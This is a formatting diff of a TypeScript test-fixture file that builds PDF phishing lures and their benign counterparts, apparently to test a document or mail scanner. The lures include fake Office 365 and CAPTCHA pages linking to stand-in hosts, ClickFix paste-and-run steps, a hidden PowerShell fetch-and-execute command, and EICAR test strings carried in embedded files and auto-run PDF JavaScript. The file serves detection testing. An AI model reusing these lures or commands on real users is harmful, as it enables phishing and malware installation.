@@ -16,7 +16,10 @@ const PAGE: [number, number, number, number] = [0, 0, 612, 792];
 const winAnsi = (s: string) => s.replaceAll("€", "\x80");
 
 /** A one-page document of text lines (Helvetica, WinAnsi). */
-const textPage = (lines: string[], more: Partial<LurePage> = {}) => () => buildLurePdf({ pages: [{ lines: lines.map(winAnsi), fontSize: 11, ...more }] });
+const textPage =
+  (lines: string[], more: Partial<LurePage> = {}) =>
+  () =>
+    buildLurePdf({ pages: [{ lines: lines.map(winAnsi), fontSize: 11, ...more }] });
 
 const INVOICE_LINES = [
   "INVOICE GS-88412-US",
@@ -44,10 +47,18 @@ function compositeFontPage(lines: string[]): Uint8Array {
   ].join("\n");
   const b = new PdfBuilder();
   const toUnicode = b.addFlateStream("", cmap);
-  const descriptor = b.add("<< /Type /FontDescriptor /FontName /ABCDEF+Calibri /Flags 32 /FontBBox [-500 -300 1200 950] /ItalicAngle 0 /Ascent 750 /Descent -250 /CapHeight 630 /StemV 80 >>");
-  const descendant = b.add(`<< /Type /Font /Subtype /CIDFontType2 /BaseFont /ABCDEF+Calibri /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor ${descriptor} 0 R /CIDToGIDMap /Identity /DW 500 >>`);
-  const font = b.add(`<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Calibri /Encoding /Identity-H /DescendantFonts [${descendant} 0 R] /ToUnicode ${toUnicode} 0 R >>`);
-  const content = lines.map((l, i) => `BT /F1 11 Tf 72 ${720 - i * 16} Td <${[...l].map(code).join("")}> Tj ET`).join("\n");
+  const descriptor = b.add(
+    "<< /Type /FontDescriptor /FontName /ABCDEF+Calibri /Flags 32 /FontBBox [-500 -300 1200 950] /ItalicAngle 0 /Ascent 750 /Descent -250 /CapHeight 630 /StemV 80 >>",
+  );
+  const descendant = b.add(
+    `<< /Type /Font /Subtype /CIDFontType2 /BaseFont /ABCDEF+Calibri /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor ${descriptor} 0 R /CIDToGIDMap /Identity /DW 500 >>`,
+  );
+  const font = b.add(
+    `<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Calibri /Encoding /Identity-H /DescendantFonts [${descendant} 0 R] /ToUnicode ${toUnicode} 0 R >>`,
+  );
+  const content = lines
+    .map((l, i) => `BT /F1 11 Tf 72 ${720 - i * 16} Td <${[...l].map(code).join("")}> Tj ET`)
+    .join("\n");
   const stream = b.addFlateStream("", content);
   b.addCatalog("", 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${stream} 0 R`);
   return b.build();
@@ -57,10 +68,19 @@ function compositeFontPage(lines: string[]): Uint8Array {
 function picturePageWithLink(url: string): Uint8Array {
   const b = new PdfBuilder();
   const gray = new Uint8Array(64 * 64).fill(0xd0);
-  const img = b.addStream("/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode", new Uint8Array(deflateSync(gray)));
+  const img = b.addStream(
+    "/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
+    new Uint8Array(deflateSync(gray)),
+  );
   const content = b.addFlateStream("", "q 560 0 0 740 26 26 cm /Im0 Do Q");
-  const annot = b.add(`<< /Type /Annot /Subtype /Link /Rect [150 300 460 420] /Border [0 0 0] /A << /S /URI /URI ${hexString(url)} >> >>`);
-  b.addCatalog("", 1, `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`);
+  const annot = b.add(
+    `<< /Type /Annot /Subtype /Link /Rect [150 300 460 420] /Border [0 0 0] /A << /S /URI /URI ${hexString(url)} >> >>`,
+  );
+  b.addCatalog(
+    "",
+    1,
+    `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`,
+  );
   return b.build();
 }
 
@@ -69,11 +89,17 @@ export const testSignature = (id: TestSignatureId) => TEST_SIGNATURES.find((s) =
 const pdfLiteral = (s: string) => `(${s.replace(/[\\()]/g, (c) => `\\${c}`)})`;
 
 /** A one-page memo with `setup` adding the carrier (objects, catalog entries) and `suffix` bytes after %%EOF. */
-function memo(setup: (b: PdfBuilder) => { catalog?: string; content?: string } = () => ({}), suffix?: string): Uint8Array {
+function memo(
+  setup: (b: PdfBuilder) => { catalog?: string; content?: string } = () => ({}),
+  suffix?: string,
+): Uint8Array {
   const b = new PdfBuilder();
   const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
   const extra = setup(b);
-  const content = b.addFlateStream("", `BT /F1 12 Tf 72 720 Td (Scanner rollout: please check that mail scanning is active.) Tj ET\n${extra.content ?? ""}`);
+  const content = b.addFlateStream(
+    "",
+    `BT /F1 12 Tf 72 720 Td (Scanner rollout: please check that mail scanning is active.) Tj ET\n${extra.content ?? ""}`,
+  );
   b.addCatalog(extra.catalog ?? "", 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R`);
   return b.build({ suffix });
 }
@@ -111,21 +137,36 @@ export const LURE_FIXTURES: TechniqueFixtures = {
     "text-composite-font": () => compositeFontPage(INVOICE_LINES),
   },
   "fake-protected-document": {
-    "text-with-link": textPage(["PROTECTED DOCUMENT", "This file is protected by Microsoft Office 365.", "Click here to view the document"], { links: [{ url: "https://login-office365.example/auth", rect: PAGE }] }),
+    "text-with-link": textPage(
+      ["PROTECTED DOCUMENT", "This file is protected by Microsoft Office 365.", "Click here to view the document"],
+      { links: [{ url: "https://login-office365.example/auth", rect: PAGE }] },
+    ),
     "image-with-link": () => picturePageWithLink("https://secure-docs-view.web.app/adobe/view.html"),
     // the fake-CAPTCHA page of 2024-2025 campaigns: its link leads to the ClickFix page
-    "fake-captcha-with-link": textPage(["Security check", "Verify you are human to continue", "I'm not a robot"], { links: [{ url: "https://check-7731.example/verify", rect: PAGE }] }),
+    "fake-captcha-with-link": textPage(["Security check", "Verify you are human to continue", "I'm not a robot"], {
+      links: [{ url: "https://check-7731.example/verify", rect: PAGE }],
+    }),
   },
   "paste-and-run-lure": {
     // the fake-CAPTCHA ClickFix page: the command is on the clipboard, put there by the attacker's site
-    "text-run-dialog-paste": textPage(["Verify you are human", "Complete these verification steps:", "1. Press Windows Key + R", "2. Press CTRL + V", "3. Press Enter"]),
+    "text-run-dialog-paste": textPage([
+      "Verify you are human",
+      "Complete these verification steps:",
+      "1. Press Windows Key + R",
+      "2. Press CTRL + V",
+      "3. Press Enter",
+    ]),
     "text-powershell-cradle": textPage([
       "The document could not be displayed. To fix the font error:",
       "Press Win+R and run the following command:",
       'powershell -w hidden -c "iwr https://fonts-update.example/fix.ps1 | iex"',
     ]),
     // the macOS variant: Spotlight opens Terminal, Cmd+V pastes
-    "text-terminal-paste": textPage(["Human verification required", "Press Command + Space and type Terminal", "Press Command + V, then Return"]),
+    "text-terminal-paste": textPage([
+      "Human verification required",
+      "Press Command + Space and type Terminal",
+      "Press Command + V, then Return",
+    ]),
   },
   "hosted-link-lure": {
     "cloud-storage": () => picturePageWithLink("https://drive.google.com/file/d/1AbCdEfGhIjK/view?usp=sharing"),
@@ -136,12 +177,19 @@ export const LURE_FIXTURES: TechniqueFixtures = {
   "antivirus-test-signature": {
     attachment: () =>
       memo((b) => {
-        const file = b.addFlateStream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream", testSignature("eicar"));
+        const file = b.addFlateStream(
+          "/Type /EmbeddedFile /Subtype /application#2Foctet-stream",
+          testSignature("eicar"),
+        );
         const spec = b.add(`<< /Type /Filespec /F (eicar.com) /UF (eicar.com) /EF << /F ${file} 0 R >> >>`);
         return { catalog: `/Names << /EmbeddedFiles << /Names [(eicar.com) ${spec} 0 R] >> >>` };
       }),
-    script: () => memo(() => ({ catalog: `/OpenAction << /S /JavaScript /JS ${hexString(`var probe = "${testSignature("eicar").replace(/\\/g, "\\\\")}"; app.alert("scan check");`)} >>` })),
-    "content-stream": () => memo(() => ({ content: `BT /F1 8 Tf 72 700 Td ${pdfLiteral(testSignature("eicar"))} Tj ET` })),
+    script: () =>
+      memo(() => ({
+        catalog: `/OpenAction << /S /JavaScript /JS ${hexString(`var probe = "${testSignature("eicar").replace(/\\/g, "\\\\")}"; app.alert("scan check");`)} >>`,
+      })),
+    "content-stream": () =>
+      memo(() => ({ content: `BT /F1 8 Tf 72 700 Td ${pdfLiteral(testSignature("eicar"))} Tj ET` })),
     "raw-appended": () => memo(undefined, `${testSignature("eicar")}\n`),
   },
 };
@@ -169,10 +217,21 @@ export const LURE_NEGATIVE_FIXTURES: Record<string, () => Uint8Array> = {
     "Tell us at once if you believe an unauthorized transfer has been made from your account.",
     "To stop payment on a check, call the same number.",
   ]),
-  "a letter with a phone number and no charge": textPage(["Dear Ms Smith,", ...prose(6), "If you would like to discuss the offer, please call me on +44 20 7946 0958.", "Kind regards, John Doe"]),
-  "a report linking its data on Google Drive": textPage(["Survey results 2024", ...prose(14)], { links: [{ url: "https://drive.google.com/drive/folders/1AbCdEf", rect: [72, 120, 300, 134] }] }),
+  "a letter with a phone number and no charge": textPage([
+    "Dear Ms Smith,",
+    ...prose(6),
+    "If you would like to discuss the offer, please call me on +44 20 7946 0958.",
+    "Kind regards, John Doe",
+  ]),
+  "a report linking its data on Google Drive": textPage(["Survey results 2024", ...prose(14)], {
+    links: [{ url: "https://drive.google.com/drive/folders/1AbCdEf", rect: [72, 120, 300, 134] }],
+  }),
   "a 30-page lossless scan": () => multiPageScanPdf({ pages: 30 }),
-  "an anti-virus manual naming the EICAR file without carrying it": textPage(["Testing your installation", "Download the EICAR-STANDARD-ANTIVIRUS-TEST-FILE from eicar.org to check detection.", ...prose(4)]),
+  "an anti-virus manual naming the EICAR file without carrying it": textPage([
+    "Testing your installation",
+    "Download the EICAR-STANDARD-ANTIVIRUS-TEST-FILE from eicar.org to check detection.",
+    ...prose(4),
+  ]),
   "an IT guide: press Win+R, paste the share's path": textPage([
     "Connecting to the team share",
     "1. Copy the path \\\\fileserver01\\projects from the intranet page.",
@@ -182,10 +241,17 @@ export const LURE_NEGATIVE_FIXTURES: Record<string, () => Uint8Array> = {
   "a developer guide's install command": textPage([
     "Installing the command-line tools",
     "Open PowerShell and run the installer:",
-    "powershell -c \"iwr -useb https://get.example-tools.dev/install.ps1 | iex\"",
+    'powershell -c "iwr -useb https://get.example-tools.dev/install.ps1 | iex"',
     "Then restart the terminal and check the version with tool --version.",
   ]),
-  "a government form's stand-in page linking to Adobe Reader": textPage(["Please wait...", "This document cannot be displayed in your PDF viewer.", "Click here to download the latest Adobe Reader"], {
-    links: [{ url: "https://get.adobe.com/reader/", rect: [72, 600, 400, 640] }],
-  }),
+  "a government form's stand-in page linking to Adobe Reader": textPage(
+    [
+      "Please wait...",
+      "This document cannot be displayed in your PDF viewer.",
+      "Click here to download the latest Adobe Reader",
+    ],
+    {
+      links: [{ url: "https://get.adobe.com/reader/", rect: [72, 600, 400, 640] }],
+    },
+  ),
 };
